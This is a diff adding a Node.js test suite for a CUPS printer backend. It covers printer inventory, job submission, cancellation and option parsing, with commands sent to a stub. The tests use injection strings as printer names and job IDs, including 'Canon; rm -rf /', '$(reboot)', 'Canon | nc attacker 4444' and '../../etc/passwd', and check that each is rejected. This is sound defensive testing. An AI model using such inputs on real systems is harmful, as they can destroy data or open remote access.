@@ -0,0 +1,200 @@
+/**
+ * CUPS backend tests
+ * CUPS commands are replaced by a stub runner that records every call
+ */
+
+const { describe, it, beforeEach } = require('node:test');
+const assert = require('node:assert/strict');
+const CupsBackend = require('../../../src/services/printers/CupsBackend');
+
+const LPSTAT_PRINTERS = [
+    'printer Canon_SELPHY is idle.  enabled since Mon 01 Jan 2024 10:00:00 AM',
+    'printer HP_Office is now printing HP_Office-7.  enabled since Mon 01 Jan 2024 10:00:00 AM',
+    ''
+].join('\n');
+
+const LPSTAT_JOBS = [
+    'Canon_SELPHY-12         pi               1024   Mon 01 Jan 2024 10:00:00 AM',
+    'HP_Office-7             pi               2048   Mon 01 Jan 2024 10:01:00 AM',
+    ''
+].join('\n');
+
+const LPOPTIONS_LIST = [
+    'PageSize/Media Size: *Postcard 4x6 w144h432',
+    'MediaType/Media Type: Plain *Glossy',
+    'InputSlot/Media Source: *Auto Tray1',
+    'ColorModel/Output Mode: *RGB Gray',
+    'cupsPrintQuality/Quality: Draft *Normal High',
+    ''
+].join('\n');
+
+const HOSTILE_NAMES = [
+    'Canon; rm -rf /',
+    'Canon && reboot',
+    '$(reboot)',
+    '`reboot`',
+    'Canon | nc attacker 4444',
+    '-o job-sheets=none',
+    '../../etc/passwd',
+    'Canon SELPHY',
+    'Canon\nreboot',
+    '',
+    'a'.repeat(200)
+];
+
+/**
+ * Stub runner answering lpstat queries and recording every command
+ */
+function createRunner() {
+    const calls = [];
+
+    const runner = async (command, args, options) => {
+        calls.push({ command, args, options });
+
+        if (command === 'lpstat' && args[0] === '-p') {
+            return { stdout: LPSTAT_PRINTERS, stderr: '' };
+        }
+        if (command === 'lpstat' && args[0] === '-o') {
+            return { stdout: LPSTAT_JOBS, stderr: '' };
+        }
+        if (command === 'lpoptions' && args.includes('-l')) {
+            return { stdout: LPOPTIONS_LIST, stderr: '' };
+        }
+        if (command === 'lp') {
+            return { stdout: `request id is ${args[1]}-13 (1 file(s))\n`, stderr: '' };
+        }
+        return { stdout: '', stderr: '' };
+    };
+
+    return { runner, calls };
+}
+
+describe('CupsBackend', () => {
+    let backend;
+    let calls;
+
+    beforeEach(() => {
+        const stub = createRunner();
+        calls = stub.calls;
+        backend = new CupsBackend({ runner: stub.runner });
+    });
+
+    /**
+     * Commands other than inventory lookups
+     */
+    const mutatingCalls = () => calls.filter(call => !(call.command === 'lpstat' && ['-p', '-o'].includes(call.args[0]) && call.args.length === 1));
+
+    describe('hostile printer names', () => {
+        for (const name of HOSTILE_NAMES) {
+            it(`rejects ${JSON.stringify(name.slice(0, 40))} without running a command`, async () => {
+                await assert.rejects(backend.setDefaultPrinter(name), /Invalid printer name/);
+                await assert.rejects(backend.submitJob('/tmp/photo.pdf', name), /Invalid printer name/);
+                await assert.rejects(backend.testPrinter(name), /Invalid printer name/);
+                await assert.rejects(backend.getPrinterStatus(name), /Invalid printer name/);
+                await assert.rejects(backend.getPrinterOptions(name), /Invalid printer name/);
+
+                assert.equal(calls.length, 0);
+            });
+        }
+
+        it('rejects non-string printer names', async () => {
+            await assert.rejects(backend.setDefaultPrinter({ name: 'Canon_SELPHY' }), /Invalid printer name/);
+            await assert.rejects(backend.setDefaultPrinter(['Canon_SELPHY']), /Invalid printer name/);
+            assert.equal(calls.length, 0);
+        });
+    });
+
+    describe('printer inventory', () => {
+        it('rejects well-formed names that CUPS does not know', async () => {
+            await assert.rejects(backend.setDefaultPrinter('Unknown_Printer'), /Printer not found/);
+            await assert.rejects(backend.submitJob('/tmp/photo.pdf', 'Unknown_Printer'), /Printer not found/);
+
+            assert.deepEqual(mutatingCalls(), []);
+        });
+
+        it('passes known printers as separate arguments', async () => {
+            await backend.setDefaultPrinter('Canon_SELPHY');
+
+            assert.deepEqual(mutatingCalls().map(call => [call.command, call.args]), [
+                ['lpoptions', ['-d', 'Canon_SELPHY']]
+            ]);
+        });
+
+        it('submits PDFs without a shell and returns the CUPS job ID', async () => {
+            const result = await backend.submitJob('/tmp/my photo; reboot.pdf', 'Canon_SELPHY');
+
+            assert.equal(result.printerJobId, 'Canon_SELPHY-13');
+            assert.deepEqual(mutatingCalls().map(call => [call.command, call.args]), [
+                ['lp', ['-d', 'Canon_SELPHY', '/tmp/my photo; reboot.pdf']]
+            ]);
+        });
+
+        it('sends the test page on stdin', async () => {
+            await backend.testPrinter('HP_Office');
+
+            const [call] = mutatingCalls();
+            assert.equal(call.command, 'lp');
+            assert.deepEqual(call.args, ['-d', 'HP_Office']);
+            assert.match(call.options.input, /Test Print/);
+        });
+    });
+
+    describe('job IDs', () => {
+        for (const jobId of ['12; reboot', '$(reboot)', '-a', 'Canon_SELPHY-12 HP_Office-7', '', 'Canon_SELPHY-abc']) {
+            it(`rejects ${JSON.stringify(jobId)} without running a command`, async () => {
+                await assert.rejects(backend.cancelJob(jobId), /Invalid job ID/);
+                assert.equal(calls.length, 0);
+            });
+        }
+
+        it('rejects jobs that are not pending', async () => {
+            await assert.rejects(backend.cancelJob('Canon_SELPHY-99'), /not found/);
+            assert.deepEqual(mutatingCalls(), []);
+        });
+
+        it('cancels pending jobs', async () => {
+            await backend.cancelJob('HP_Office-7');
+
+            assert.deepEqual(mutatingCalls().map(call => [call.command, call.args]), [
+                ['cancel', ['HP_Office-7']]
+            ]);
+        });
+    });
+
+    describe('capabilities', () => {
+        it('parses lpoptions -l into media, trays, quality and color modes', async () => {
+            const capabilities = await backend.getCapabilities('Canon_SELPHY');
+
+            assert.deepEqual(capabilities.media, {
+                option: 'PageSize',
+                label: 'Media Size',
+                choices: ['Postcard', '4x6', 'w144h432'],
+                default: 'Postcard'
+            });
+            assert.equal(capabilities.mediaType.default, 'Glossy');
+            assert.deepEqual(capabilities.source.choices, ['Auto', 'Tray1']);
+            assert.equal(capabilities.quality.option, 'cupsPrintQuality');
+            assert.deepEqual(capabilities.colorMode.choices, ['RGB', 'Gray']);
+            assert.equal(capabilities.driverOptions.length, 5);
+        });
+
+        it('passes print options to lp using the driver keywords', async () => {
+            await backend.submitJob('/tmp/photo.pdf', 'Canon_SELPHY', {
+                copies: 2,
+                media: 'w144h432',
+                colorMode: 'Gray',
+                fitToPage: true
+            });
+
+            const lpCall = calls.find(call => call.command === 'lp');
+            assert.deepEqual(lpCall.args, [
+                '-d', 'Canon_SELPHY',
+                '-n', '2',
+                '-o', 'PageSize=w144h432',
+                '-o', 'ColorModel=Gray',
+                '-o', 'fit-to-page',
+                '/tmp/photo.pdf'
+            ]);
+        });
+    });
+});